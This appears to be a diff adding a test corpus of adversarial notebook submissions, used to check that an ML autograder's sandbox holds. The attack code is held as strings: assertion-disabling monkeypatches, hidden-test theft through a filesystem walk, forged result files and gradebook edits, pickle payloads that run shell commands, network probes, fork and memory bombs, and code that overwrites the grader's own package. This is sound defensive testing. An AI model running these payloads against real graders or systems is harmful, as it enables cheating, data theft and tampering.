@@ -1,0 +1,1306 @@
+"""Adversarial submissions for ``01-gradient-descent``, kept as readable data.
+
+Every :class:`Attack` names an honest *base* notebook (the student release, a correct
+solution, or a known-wrong answer), the cells it injects or changes, and what must come
+out of grading: at most the base's honest score (``max_score``), sometimes exactly a
+known score, and text the grade must contain (time limit, kernel died, ...).
+
+``tests/test_adversarial.py`` grades every attack with the real ``mlgrader grade --json``
+and ``benchmarks/attacks/run.py`` runs the same corpus through nbgrader and otter.
+
+Code in an attack may use placeholders, filled in per run by :class:`Context`:
+
+``@MARKER@``  a file on the grader's host that only a grader running attack code could create
+``@PORT@``    a TCP port on the host's 127.0.0.1 that records what it receives
+``@TOKEN@``   a unique text per run (sent over the network, put in the argv of orphans)
+``@COURSE@``  the grader's working directory (a decoy course folder with a gradebook.db)
+``@SAFE@``    the scratch root of this test run: the only place attacks that overwrite
+              grader files ever write to (a real attacker would target the installed package)
+"""
+
+from __future__ import annotations
+
+import copy
+import hashlib
+import json
+import os
+import re
+import shutil
+import sqlite3
+import subprocess
+import sys
+import time
+from dataclasses import dataclass, field
+from pathlib import Path
+
+REPO = Path(__file__).resolve().parents[2]
+ASSIGNMENT = "01-gradient-descent"
+NOTEBOOK = "gradient_descent"
+RELEASE_NB = REPO / "release" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
+SOURCE_NB = REPO / "source" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
+OTHER_SOURCE_NB = REPO / "source" / "02-linear-regression" / "linear_regression.ipynb"
+BUNDLE = REPO / "autograder" / ASSIGNMENT
+MAX_SCORE = 8.0
+EXERCISES = ("derivative", "gd-loop", "nudge", "gradient-weight")
+TESTS = {"test-derivative": 1.0, "test-gd-loop": 2.0, "test-nudge": 2.0, "test-gradient-weight": 3.0}
+REPLY_MIME = "application/vnd.mlgrader.reply+json"
+
+# Honest scores of the three bases (checked by the baseline cases of the test suite).
+BASE_SCORES = {"stub": 0.0, "wrong": 5.0, "solved": 8.0}
+
+# Lines that only exist in the hidden part of the tests; none may ever reach a result.
+HIDDEN_LINES = (
+    "BEGIN HIDDEN TESTS",
+    "def without_x(x, y, w, lr, epochs):",
+    "x_new, y_new = [-2.0, 0.5, 1.0, 4.0], [4.0, -1.0, -2.0, -8.0]",
+    "points = np.array([-3.0, -0.5, 0.0, 0.25, 7.0])",
+    "def iterate(step, n=10):",
+)
+CANARY = "CANARY-7f3d2a-hidden-test-text"
+
+
+# --------------------------------------------------------------------------- notebooks
+
+
+def _text(source) -> str:
+    return "".join(source) if isinstance(source, list) else source
+
+
+def load_notebook(path: Path) -> dict:
+    nb = json.loads(Path(path).read_text())
+    for cell in nb["cells"]:
+        cell["source"] = _text(cell["source"])
+    return nb
+
+
+def grade_id(cell: dict) -> str | None:
+    meta = cell.get("metadata", {}).get("nbgrader")
+    return meta.get("grade_id") if isinstance(meta, dict) else None
+
+
+def find_cell(nb: dict, gid: str) -> dict:
+    return next(c for c in nb["cells"] if grade_id(c) == gid)
+
+
+_counter = [0]
+
+
+def code_cell(source: str, **nbgrader) -> dict:
+    _counter[0] += 1
+    cell = {"cell_type": "code", "execution_count": None, "id": f"adv-{_counter[0]}",
+            "metadata": {}, "outputs": [], "source": source}
+    if nbgrader:
+        cell["metadata"]["nbgrader"] = nbgrader
+    return cell
+
+
+def _strip_solution_markers(source: str) -> str:
+    return "\n".join(line for line in source.split("\n")
+                     if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))
+
+
+def stub() -> dict:
+    """The student release, untouched: 0 points."""
+    return load_notebook(RELEASE_NB)
+
+
+def solved() -> dict:
+    """The release with every exercise cell completed as in the solution: 8 points."""
+    nb = stub()
+    source = load_notebook(SOURCE_NB)
+    for gid in EXERCISES:
+        find_cell(nb, gid)["source"] = _strip_solution_markers(find_cell(source, gid)["source"])
+    return nb
+
+
+def wrong() -> dict:
+    """A solved notebook whose df returns x instead of 2x: loses test-derivative (1) and
+    test-gd-loop (2, its iterates use df), keeps test-nudge and test-gradient-weight: 5."""
+    nb = solved()
+    cell = find_cell(nb, "derivative")
+    cell["source"] = cell["source"].replace("return 2 * x", "return x")
+    assert "return x" in cell["source"]
+    return nb
+
+
+BASES = {"stub": stub, "solved": solved, "wrong": wrong}
+
+
+# --------------------------------------------------------------------------- attacks
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One adversarial submission and what grading it must give."""
+
+    name: str
+    description: str
+    base: str = "stub"  # stub | solved | wrong: the honest notebook the attack starts from
+    # (where, code): where is "top", "end", "after:<grade_id>", "before:<grade_id>" or
+    # "replace:<grade_id>" (the cell's whole source) or "append:<grade_id>" (added to it)
+    cells: tuple[tuple[str, str], ...] = ()
+    transform: str | None = None  # a notebook-level change, see TRANSFORMS
+    max_score: float | None = None  # the honest score the attack may not exceed (default: the base's)
+    exact_score: float | None = None  # when the outcome is known exactly
+    expect: tuple[str, ...] = ()  # text the grade (messages, tests, cells) must contain, any case
+    modes: tuple[str, ...] = ("bubblewrap",)
+    bundle: str = "fast"  # fast | lowmem | tight: bundle copies with smaller limits
+    assignment_flag: bool = False  # grade with --assignment (file-level attacks)
+    runner: str = "cli"  # cli: `mlgrader grade --json`; api: grade_notebook() measuring the grader's memory
+    grader_copy: bool = False  # run the grader from a throwaway copy of src/ (PYTHONPATH)
+    max_grader_rss_mb: float | None = None
+    # Known vulnerabilities: {mode: reason}. "contained" = test_attack_is_contained,
+    # "reported" = test_attack_is_reported; the tests are marked xfail(strict=True).
+    xfail_contained: tuple[tuple[str, str], ...] = ()
+    xfail_reported: tuple[tuple[str, str], ...] = ()
+    # What nbgrader and otter make of it (benchmarks/attacks/run.py); None = not applicable.
+    benchmark: bool = True
+
+    @property
+    def allowed(self) -> float:
+        return BASE_SCORES[self.base] if self.max_score is None else self.max_score
+
+
+# Attack code ----------------------------------------------------------------------------
+
+PATCH_NUMPY_TESTING = """\
+import numpy as np
+import numpy.testing
+np.testing.assert_allclose = lambda *a, **k: None
+np.testing.assert_array_almost_equal = lambda *a, **k: None
+np.testing.assert_array_equal = lambda *a, **k: None
+np.testing.assert_equal = lambda *a, **k: None
+"""
+
+PATCH_ALLCLOSE = """\
+import numpy as np
+np.allclose = lambda *a, **k: True
+np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
+np.array_equal = lambda *a, **k: True
+np.all = lambda *a, **k: True
+"""
+
+PATCH_MLGRADER_CHECKS = """\
+import sys, types
+import mlgrader.checks as checks
+noop = lambda *a, **k: None
+for name in ("check_close", "check_shape", "check_loss_curve", "check_equal", "check_finite",
+             "check_type", "check_accuracy", "check_probabilities"):
+    setattr(checks, name, noop)
+fake = types.ModuleType("mlgrader.checks")
+fake.__dict__.update({name: noop for name in checks.__all__})
+fake.CheckFailure = type("CheckFailure", (Exception,), {})
+sys.modules["mlgrader.checks"] = fake
+import mlgrader
+mlgrader.checks = fake
+"""
+
+PATCH_BUILTINS = """\
+import builtins
+_real_import = builtins.__import__
+class _Anything:
+    def __getattr__(self, name):
+        return lambda *a, **k: None
+def _import(name, globals=None, locals=None, fromlist=(), level=0):
+    if name.startswith("mlgrader.checks") or name == "numpy.testing":
+        return _Anything()
+    return _real_import(name, globals, locals, fromlist, level)
+builtins.__import__ = _import
+builtins.abs = lambda x: 0.0
+builtins.AssertionError = type("AssertionError", (Exception,), {})
+"""
+
+INPUT_TRANSFORMER = """\
+import ast
+def neuter(lines):
+    out = []
+    for line in lines:
+        body = line.lstrip()
+        if body.startswith(("assert ", "check_", "np.testing.")):
+            line = line[: len(line) - len(body)] + "pass\\n"
+        out.append(line)
+    return out
+class DropAsserts(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+ip = get_ipython()
+ip.input_transformers_cleanup.append(neuter)
+ip.input_transformers_post.append(neuter)
+ip.ast_transformers.append(DropAsserts())
+"""
+
+HOOKS = """\
+import sys
+ip = get_ipython()
+def forget_errors(result):
+    result.error_in_exec = None
+    result.error_before_exec = None
+ip.events.register("post_run_cell", forget_errors)
+ip.events.register("pre_run_cell", lambda info: None)
+ip.set_custom_exc((Exception,), lambda shell, etype, evalue, tb, tb_offset=None: None)
+sys.excepthook = lambda *a: None
+"""
+
+SETTRACE = """\
+import ctypes, sys, threading
+def _steal_expected(frame, event, arg):
+    # On entry to a comparison, make the value under test equal the expected one.
+    if event == "call" and frame.f_code.co_name in (
+            "check_close", "_compare_close", "assert_allclose", "allclose", "isclose", "assert_array_almost_equal"):
+        names = frame.f_locals
+        for got, want in (("actual", "expected"), ("actual", "desired"), ("a", "b")):
+            if got in names and want in names:
+                names[got] = names[want]
+        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
+    return None
+sys.settrace(_steal_expected)
+threading.settrace(_steal_expected)
+"""
+
+AGENT_CLAIMS = """\
+import json
+from IPython.display import publish_display_data
+class ClaimEverything:
+    # Stands in for the grader's helper: answers every request, claiming success.
+    def serve(self, request_text):
+        request = json.loads(request_text)
+        pairs = [[{"t": "str", "v": n}, {"t": "float", "v": "2.0"}] for n in request.get("names", [])]
+        publish_display_data({"@REPLY@": {
+            "ok": True, "passed": True, "status": "passed", "score": 8, "verdict": "all tests passed",
+            "value": {"t": "dict", "v": pairs}}})
+__mlgrader_agent__ = ClaimEverything()
+""".replace("@REPLY@", REPLY_MIME)
+
+AGENT_MODULES = """\
+import json
+from IPython.display import publish_display_data
+class ModulesEverywhere:
+    # Answers every name with a module node, hoping the grader runs or trusts it.
+    def serve(self, request_text):
+        request = json.loads(request_text)
+        mods = ["numpy.testing", "mlgrader.checks", "mlgrader", "math"]
+        pairs = [[{"t": "str", "v": n}, {"t": "module", "name": mods[i % len(mods)]}]
+                 for i, n in enumerate(request.get("names", []))]
+        publish_display_data({"@REPLY@": {"ok": True, "value": {"t": "dict", "v": pairs}}})
+__mlgrader_agent__ = ModulesEverywhere()
+""".replace("@REPLY@", REPLY_MIME)
+
+AGENT_MALFORMED = """\
+import json
+from IPython.display import publish_display_data
+class Garbage:
+    # Well-formed JSON, malformed values: the grader must reject them, not crash.
+    def serve(self, request_text):
+        request = json.loads(request_text)
+        pairs = [[{"t": "str", "v": n}, {"t": "float", "v": "not-a-number"}] for n in request.get("names", [])]
+        publish_display_data({"@REPLY@": {"ok": True, "value": {"t": "dict", "v": pairs}}})
+__mlgrader_agent__ = Garbage()
+""".replace("@REPLY@", REPLY_MIME)
+
+AGENT_MODULE_MAIN = """\
+import json
+from IPython.display import publish_display_data
+class RunMain:
+    # Names a module whose import runs a program (a package's __main__) in the grader.
+    def serve(self, request_text):
+        request = json.loads(request_text)
+        pairs = [[{"t": "str", "v": n}, {"t": "module", "name": "torch.utils.model_dump.__main__"}]
+                 for n in request.get("names", [])]
+        publish_display_data({"@REPLY@": {"ok": True, "value": {"t": "dict", "v": pairs}}})
+__mlgrader_agent__ = RunMain()
+""".replace("@REPLY@", REPLY_MIME)
+
+AGENT_DELETED = """\
+del __mlgrader_agent__
+"""
+
+IOPUB_NESTED_JSON = """\
+# Send a raw, correctly signed iopub message whose content is JSON nested 200000 deep.
+kernel = get_ipython().kernel
+kernel.session.send(kernel.iopub_socket, "display_data", content=b"[" * 200000 + b"]" * 200000,
+                    parent=kernel.get_parent("shell"))
+"""
+
+IOPUB_NOT_A_DICT = """\
+# Send a raw, correctly signed stream message whose content is a list, not a dict.
+kernel = get_ipython().kernel
+kernel.session.send(kernel.iopub_socket, "stream", content=b"[1, 2]", parent=kernel.get_parent("shell"))
+"""
+
+FORGED_REPLY_FIRST = """\
+from IPython.display import publish_display_data
+_wrong_df = df
+def df(x):
+    # Publish a reply of our own before the helper's: the grader reads the first one.
+    publish_display_data({"@REPLY@": {"ok": True, "value": {"t": "object", "handle": 987654, "type_names": ["builtins.float"], "repr": "2.0", "callable": False}}})
+    return _wrong_df(x)
+""".replace("@REPLY@", REPLY_MIME)
+
+FAKE_MODULES_IN_CWD = """\
+import os, pathlib
+noop = "def _noop(*a, **k):\\n    return None\\n"
+checks = noop + "".join(f"{n} = _noop\\n" for n in ("check_close", "check_shape", "check_loss_curve", "check_equal",
+                                                   "check_finite", "check_type", "check_accuracy", "check_probabilities"))
+checks += "class CheckFailure(Exception):\\n    pass\\n"
+for folder in [pathlib.Path.cwd(), pathlib.Path.home(), pathlib.Path("/tmp"), pathlib.Path.cwd().parent]:
+    try:
+        (folder / "mlgrader").mkdir(exist_ok=True)
+        (folder / "mlgrader" / "__init__.py").write_text("")
+        (folder / "mlgrader" / "checks.py").write_text(checks)
+        (folder / "numpy.py").write_text("allclose = lambda *a, **k: True\\n")
+        (folder / "sitecustomize.py").write_text("import builtins; builtins.abs = lambda x: 0\\n")
+        (folder / "zz_evil.pth").write_text("import builtins; builtins.abs = lambda x: 0\\n")
+        print("planted in", folder)
+    except OSError as exc:
+        print("cannot plant in", folder, exc)
+"""
+
+READ_HIDDEN_TESTS = """\
+import os
+found = []
+def grab(path):
+    try:
+        with open(path, errors="replace") as fh:
+            text = fh.read(200_000)
+    except OSError:
+        return
+    if "HIDDEN" in text or "check_close(" in text or path.endswith("manifest.json"):
+        found.append(f"== {path}\\n{text}")
+roots = ["/autograder", "/work", os.getcwd(), os.path.expanduser("~"), "/tmp", "/srv", "/opt", "/home", "/root", "/"]
+try:  # where was the grader started, and with which --autograder folder?
+    parent = os.getppid()
+    argv = open(f"/proc/{parent}/cmdline", "rb").read().split(b"\\0")
+    roots[:0] = [os.readlink(f"/proc/{parent}/cwd")] + [a.decode() for a in argv if a.startswith(b"/") and os.path.isdir(a)]
+except OSError:
+    pass
+SKIP = {"proc", "sys", "dev", "usr", ".git", "site-packages", "node_modules", "__pycache__", ".venv", "lib", "share"}
+seen, budget = set(), 60_000
+for root in roots:
+    for dirpath, dirnames, filenames in os.walk(root):
+        if dirpath in seen:
+            dirnames[:] = []
+            continue
+        seen.add(dirpath)
+        budget -= 1 + len(filenames)
+        if budget < 0:
+            break
+        dirnames[:] = [d for d in dirnames if d not in SKIP]
+        for name in filenames:
+            if name == "manifest.json" or (name.endswith(".py") and ("test" in name or "check" in name)):
+                grab(os.path.join(dirpath, name))
+loot = "\\n".join(found)
+print(loot[:200_000])
+def df(x):  # the grader calls this: hand the loot back in the error message
+    raise RuntimeError(loot[:1900])
+def nudge_weight(*args, **kwargs):
+    raise RuntimeError(loot[-1900:])
+if found:
+    raise RuntimeError("LOOT " + loot[:20_000])
+"""
+
+FORGED_RESULTS = """\
+import json, os
+forged = {"score": 8.0, "max_score": 8.0, "output": "all tests passed",
+          "tests": [{"name": n, "score": p, "max_score": p, "status": "passed", "output": ""}
+                    for n, p in [("test-derivative", 1), ("test-gd-loop", 2), ("test-nudge", 2), ("test-gradient-weight", 3)]]}
+targets = ["results.json", "grades.csv", "feedback/gradient_descent.html", "../results.json", "../grades.csv",
+           "@COURSE@/results.json", "@COURSE@/grades.csv", "@COURSE@/grades/grades.csv",
+           "@COURSE@/feedback/gradient_descent.html", "/autograder/results/results.json"]
+for target in targets:
+    try:
+        os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
+        with open(target, "w") as fh:
+            fh.write(json.dumps(forged) if target.endswith(".json") else "student,score,max_score\\nalice,8,8\\n")
+        print("wrote", target)
+    except OSError as exc:
+        print("could not write", target, exc)
+"""
+
+GRADEBOOK = """\
+import os, sqlite3
+paths = ["gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db",
+         os.path.expanduser("~/gradebook.db"), "@COURSE@/gradebook.db", "/work/main/gradebook.db"]
+for path in paths:
+    if not os.path.exists(path):  # never create one: only change a real gradebook
+        print("no gradebook at", path)
+        continue
+    try:
+        db = sqlite3.connect(path)
+        db.execute("UPDATE grade SET auto_score = max_score, manual_score = max_score")
+        db.commit()
+        print("updated", path)
+    except Exception as exc:
+        print("could not update", path, exc)
+"""
+
+NETWORK = """\
+import socket
+report = []
+def attempt(kind, address):
+    try:
+        if kind == "tcp":
+            s = socket.create_connection(address, timeout=2)
+            s.sendall(b"@TOKEN@")
+        else:
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            s.settimeout(2)
+            s.sendto(b"@TOKEN@", address)
+        s.close()
+        report.append(f"{kind} {address}: sent")
+    except OSError as exc:
+        report.append(f"{kind} {address}: {exc}")
+for kind, address in [("tcp", ("127.0.0.1", @PORT@)), ("tcp", ("8.8.8.8", 53)), ("udp", ("8.8.8.8", 53)),
+                      ("tcp", ("10.0.0.1", 80))]:
+    attempt(kind, address)
+try:
+    socket.getaddrinfo("example.com", 80)
+    report.append("dns: resolved")
+except OSError as exc:
+    report.append(f"dns: {exc}")
+print(report)
+"""
+
+OS_EXIT = """\
+import os
+os._exit(0)
+"""
+
+SYS_EXIT = """\
+import sys
+sys.exit(0)
+"""
+
+SYS_EXIT_ALL = (
+    ("after:derivative", "import sys\nsys.exit()"),
+    ("after:derivative", "raise SystemExit(3)"),
+    ("after:gd-loop", "exit()"),
+    ("after:nudge", "quit()"),
+)
+
+FORK_BOMB = """\
+import os, time
+children, error = [], None
+for _ in range(1000):  # bounded: the sandbox must stop it long before
+    try:
+        pid = os.fork()
+    except OSError as exc:
+        error = exc
+        break
+    if pid == 0:
+        time.sleep(4)
+        os._exit(0)
+    children.append(pid)
+print(len(children), "children, then", error)
+for pid in children:
+    os.waitpid(pid, 0)
+"""
+
+INFINITE_LOOP = """\
+while True:
+    pass
+"""
+
+LOOP_IGNORING_SIGINT = """\
+import signal
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+while True:
+    pass
+"""
+
+LOOP_WHEN_GRADED = """\
+def df(x):
+    if hasattr(x, "shape") and x.shape:  # the grader's hidden check passes an array
+        while True:
+            pass
+    return 2 * x
+"""
+
+SLEEPY_CELLS = "import time\ntime.sleep(4)"
+
+BYTEARRAY_BOMB = """\
+hog = bytearray(50 * 2**30)
+"""
+
+GROWING_LIST = """\
+hog = [0]
+while True:
+    hog = hog + hog
+"""
+
+PRINT_FLOOD = """\
+chunk = "spam " * 200_000
+for _ in range(100):  # 100 MB of output
+    print(chunk)
+"""
+
+MIME_FLOOD = """\
+from IPython.display import publish_display_data
+chunk = "x" * 10_000_000
+for _ in range(40):  # 400 MB in outputs whose type mentions "mlgrader"
+    publish_display_data({"application/x-mlgrader-flood": chunk})
+"""
+
+HUGE_ERROR = """\
+raise RuntimeError("A" * 20_000_000)
+"""
+
+PICKLE_FILES = """\
+import os, pickle
+import numpy as np
+class Bait:
+    def __reduce__(self):
+        return (os.system, ("touch @MARKER@",))
+payload = pickle.dumps(Bait())
+for name in ["model.pt", "model.pth", "weights.pkl", "results.pkl", "checkpoint.ckpt", "submission.pickle",
+             "grades.pkl", "xs.pkl", "df.pkl"]:
+    with open(name, "wb") as fh:
+        fh.write(payload)
+np.save("xs.npy", np.array([Bait()], dtype=object), allow_pickle=True)
+xs = Bait()
+w_learned = Bait()
+"""
+
+PICKLE_IN_REPLY = """\
+import io, os, base64, json
+import numpy as np
+from IPython.display import publish_display_data
+class Bait:
+    def __reduce__(self):
+        return (os.system, ("touch @MARKER@",))
+buffer = io.BytesIO()
+np.save(buffer, np.array([Bait()], dtype=object), allow_pickle=True)
+npy = base64.b64encode(buffer.getvalue()).decode()
+class PickleAgent:
+    def serve(self, request_text):
+        request = json.loads(request_text)
+        pairs = [[{"t": "str", "v": n}, {"t": "ndarray", "npy": npy}] for n in request.get("names", [])]
+        publish_display_data({"@REPLY@": {"ok": True, "value": {"t": "dict", "v": pairs}}})
+__mlgrader_agent__ = PickleAgent()
+""".replace("@REPLY@", REPLY_MIME)
+
+HOSTILE_DUNDERS = """\
+class Liar:
+    # Equal to everything, true, 2.0 as a float; raises when asked for a length, an array or a text.
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __lt__(self, other): return True
+    __le__ = __gt__ = __ge__ = __lt__
+    def __bool__(self): return True
+    def __float__(self): return 2.0
+    def __int__(self): return 2
+    def __index__(self): return 2
+    def __abs__(self): return 0.0
+    def __neg__(self): return self
+    def __len__(self): raise RuntimeError("no len")
+    def __iter__(self): raise RuntimeError("no iter")
+    def __array__(self, *a, **k): raise RuntimeError("no array")
+    def __repr__(self): raise RuntimeError("no repr")
+    def __str__(self): raise RuntimeError("no str")
+    def __format__(self, spec): return "3.0"
+    def __hash__(self): return 0
+    def __getattr__(self, name): return self
+    def __call__(self, *a, **k): return self
+    def _same(self, *other): return self
+    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __pow__ = _same
+def df(x): return Liar()
+xs = Liar()
+def nudge_weight(*args, **kwargs): return Liar()
+w_nudged = Liar()
+def train_weight(*args, **kwargs): return Liar(), [Liar()] * 50
+w_learned, losses = Liar(), [Liar()] * 50
+"""
+
+LYING_CONTAINERS = """\
+import numpy as np
+class LyingFloat(float):
+    def __eq__(self, other): return True
+    def __abs__(self): return 0.0
+    def __sub__(self, other): return LyingFloat(0.0)
+    __rsub__ = __sub__
+    def __hash__(self): return 0
+class LyingList(list):
+    def __eq__(self, other): return True
+class LyingArray(np.ndarray):
+    def __eq__(self, other): return np.ones(np.shape(self), dtype=bool)
+    def __array_ufunc__(self, *a, **k): return np.ones(np.shape(self), dtype=bool)
+def df(x): return LyingFloat(0.0)
+xs = np.zeros(11).view(LyingArray)
+def nudge_weight(*args, **kwargs): return LyingFloat(0.0)
+w_nudged = LyingFloat(0.0)
+def train_weight(*args, **kwargs): return LyingFloat(0.0), LyingList([0.0] * 30)
+w_learned, losses = LyingFloat(0.0), LyingList([1.0] * 50)
+"""
+
+OBJECT_ARRAYS = """\
+import numpy as np
+class Two:
+    def __float__(self): return 2.0
+    def __eq__(self, other): return True
+def df(x): return np.array([Two() for _ in np.atleast_1d(x)], dtype=object)
+xs = np.array([Two() for _ in range(11)], dtype=object)
+w_nudged = np.array(3.0, dtype=object)
+def nudge_weight(*args, **kwargs): return np.array(3.0, dtype=object)
+losses = np.array([1.0 / (i + 1) for i in range(50)], dtype=object)
+w_learned = np.array(3.0, dtype=object)
+def train_weight(*args, **kwargs): return w_learned, losses
+"""
+
+HUGE_VALUES = """\
+def nested(depth):
+    value = [0.0]
+    for _ in range(depth):
+        value = [value]
+    return value
+xs = nested(100)                   # deeper than any data the grader accepts
+losses = list(range(200_000))      # more items than the grader accepts in a list
+w_learned = 10 ** 5000             # more digits than python prints
+w_nudged = "3" * 2_000_000         # a 2 MB string
+def df(x): return nested(50)
+def nudge_weight(*args, **kwargs): return "9" * 2_000_000
+def train_weight(*args, **kwargs): return 10 ** 5000, list(range(200_000))
+"""
+
+LYING_TENSOR = """\
+import numpy as np
+import torch
+class LyingTensor(torch.Tensor):
+    # Holds zeros but says it equals anything it is compared with.
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "eq", "__eq__"):
+            return True
+        return super().__torch_function__(func, types, args, kwargs or {})
+xs = torch.zeros(11, dtype=torch.float64).as_subclass(LyingTensor)
+losses = torch.zeros(50, dtype=torch.float64).as_subclass(LyingTensor)
+w_learned = torch.tensor(0.0, dtype=torch.float64).as_subclass(LyingTensor)
+w_nudged = torch.tensor(0.0, dtype=torch.float64).as_subclass(LyingTensor)
+def df(x): return torch.zeros(np.shape(x)).as_subclass(LyingTensor)
+"""
+
+DETECT_GRADER = """\
+import inspect
+import numpy as np
+def _called_by_grader():
+    return any(frame.function == "serve" for frame in inspect.stack())
+_honest_df = df
+def df(x):
+    if _called_by_grader():  # it can tell, but all it can do is return a value
+        return np.full(np.shape(x), np.nan)
+    return _honest_df(x)
+"""
+
+ORPHAN = """\
+import subprocess, sys
+# A detached process that outlives the kernel (new session, no parent to wait for it).
+subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", "@TOKEN@"], start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+"""
+
+OVERWRITE_GRADER = """\
+import os, pathlib
+EVIL = '''
+# appended by a submission: every test of this grade counts as passed
+import mlgrader.grade as _g
+from mlgrader.results import TestResult as _TR
+_g.TestResult = lambda name, score, max_score, status, output="": _TR(name, max_score, max_score, "passed", "")
+'''
+hits = []
+try:  # find the grader's own copy of mlgrader through its environment
+    for entry in open(f"/proc/{os.getppid()}/environ", "rb").read().split(b"\\0"):
+        if entry.startswith(b"PYTHONPATH="):
+            for folder in entry[len(b"PYTHONPATH="):].decode().split(os.pathsep):
+                target = pathlib.Path(folder) / "mlgrader" / "checks.py"
+                # This corpus only ever touches the throwaway copy under @SAFE@.
+                if str(target).startswith("@SAFE@") and target.is_file():
+                    target.write_text(target.read_text() + EVIL)
+                    hits.append(str(target))
+except OSError as exc:
+    hits.append(repr(exc))
+print("patched", hits)
+"""
+
+STDERR_WARNING = """\
+import sys, warnings
+warnings.warn("this learning rate is on the large side")
+print("WARNING: numerical precision may be low", file=sys.stderr)
+"""
+
+
+def _after(gid: str, code: str) -> tuple[str, str]:
+    return (f"after:{gid}", code)
+
+
+ATTACKS: tuple[Attack, ...] = (
+    # -- baselines: the honest notebooks the attacks start from ---------------------------
+    Attack("baseline-stub", "the untouched student release", "stub", exact_score=0.0,
+           ),
+    Attack("baseline-wrong", "a solution whose df returns x instead of 2x", "wrong", exact_score=5.0,
+           ),
+    Attack("baseline-solved", "the complete solution", "solved", exact_score=8.0,
+           modes=("bubblewrap", "subprocess")),
+    Attack("stderr-warning", "a correct answer that warns and writes to stderr in every exercise", "solved",
+           cells=tuple(_after(g, STDERR_WARNING) for g in EXERCISES), exact_score=8.0),
+    # -- monkeypatching inside the kernel ---------------------------------------------------
+    Attack("patch-np-testing", "np.testing.assert_allclose = lambda *a, **k: None (and friends)", "wrong",
+           cells=(_after("setup-1", PATCH_NUMPY_TESTING),), exact_score=5.0, modes=("bubblewrap", "subprocess")),
+    Attack("patch-np-allclose", "np.allclose = lambda *a, **k: True; np.isclose, np.all likewise", "wrong",
+           cells=(_after("setup-1", PATCH_ALLCLOSE),), exact_score=5.0),
+    Attack("patch-mlgrader-checks", "replace mlgrader.checks' functions with no-ops in the kernel", "wrong",
+           cells=(_after("setup-1", PATCH_MLGRADER_CHECKS),), exact_score=5.0, modes=("bubblewrap", "subprocess")),
+    Attack("patch-builtins", "builtins.__import__ hands out fake checks; abs() returns 0; a new AssertionError",
+           "wrong", cells=(_after("derivative", PATCH_BUILTINS),)),
+    Attack("input-transformer", "IPython input and AST transformers turn later `assert`/check lines into `pass`",
+           "wrong", cells=(_after("setup-1", INPUT_TRANSFORMER),), exact_score=5.0,
+           ),
+    Attack("hooks-custom-exc", "post_run_cell hook clears errors; set_custom_exc swallows every exception",
+           "wrong", cells=(_after("setup-1", HOOKS),), exact_score=5.0),
+    Attack("settrace-steal-expected", "sys.settrace makes check_close/assert_allclose compare expected with itself",
+           "wrong", cells=(_after("setup-1", SETTRACE),), exact_score=5.0),
+    # -- the grader's helper and the message channel ----------------------------------------
+    Attack("agent-claims-success", "replace __mlgrader_agent__ with one that answers 'passed' and made-up values",
+           "stub", cells=(_after("setup-2", AGENT_CLAIMS),), exact_score=0.0),
+    Attack("agent-module-values", "the fake helper answers every name with a module (numpy.testing, mlgrader...)",
+           "stub", cells=(_after("setup-2", AGENT_MODULES),), exact_score=0.0),
+    Attack("agent-deleted", "del __mlgrader_agent__ after a correct solution: tests cannot read anything",
+           "solved", cells=(_after("setup-2", AGENT_DELETED),), exact_score=0.0, expect=("helper",)),
+    Attack("agent-malformed-reply", "the fake helper answers {'t': 'float', 'v': 'not-a-number'}", "stub",
+           cells=(_after("setup-2", AGENT_MALFORMED),), exact_score=0.0,
+           xfail_reported=(("bubblewrap", "VULN: wire.decode raises ValueError on a malformed reply; run_test does "
+                                          "not catch it while exporting names, so `mlgrader grade` crashes"),)),
+    Attack("agent-module-main", "the fake helper names torch.utils.model_dump.__main__: the grader imports it",
+           "stub", cells=(_after("setup-2", AGENT_MODULE_MAIN),), exact_score=0.0,
+           xfail_reported=(("bubblewrap", "VULN: remote._grader_module imports any module under the allowed roots, "
+                                          "incl. __main__ modules that call sys.exit(): SystemExit kills the grade"),)),
+    Attack("iopub-nested-json", "a raw signed iopub message whose content is JSON nested 200000 deep", "stub",
+           cells=(_after("setup-2", IOPUB_NESTED_JSON),), exact_score=0.0,
+           xfail_reported=(("bubblewrap", "VULN: RecursionError while decoding the kernel's message escapes "
+                                          "SandboxKernel.run (only DeadKernelError is caught): the grader crashes"),)),
+    Attack("iopub-content-not-dict", "a raw signed stream message whose content is a JSON list", "stub",
+           cells=(_after("setup-2", IOPUB_NOT_A_DICT),), exact_score=0.0,
+           xfail_reported=(("bubblewrap", "VULN: nbclient's process_message raises AttributeError on a non-dict "
+                                          "content; SandboxKernel.run does not catch it: the grader crashes"),)),
+    Attack("forged-reply-first", "df publishes a forged helper reply before the real one", "wrong",
+           cells=(_after("derivative", FORGED_REPLY_FIRST),), exact_score=5.0),
+    Attack("detect-grader", "df notices it is called by the grader's helper and returns NaNs instead", "wrong",
+           cells=(_after("derivative", DETECT_GRADER),), exact_score=5.0),
+    # -- the file system ----------------------------------------------------------------------
+    Attack("fake-mlgrader-in-cwd", "plant mlgrader/checks.py, numpy.py, sitecustomize.py and a .pth in cwd, ~ and /tmp",
+           "wrong", cells=(_after("setup-1", FAKE_MODULES_IN_CWD),), exact_score=5.0),
+    Attack("read-hidden-tests", "walk the file system (bundle, /work, the repo, /) for hidden tests and leak them "
+                                "through cell errors, exceptions the grader reads, and prints", "stub",
+           cells=(_after("setup-2", READ_HIDDEN_TESTS),), exact_score=0.0, modes=("bubblewrap", "subprocess"),
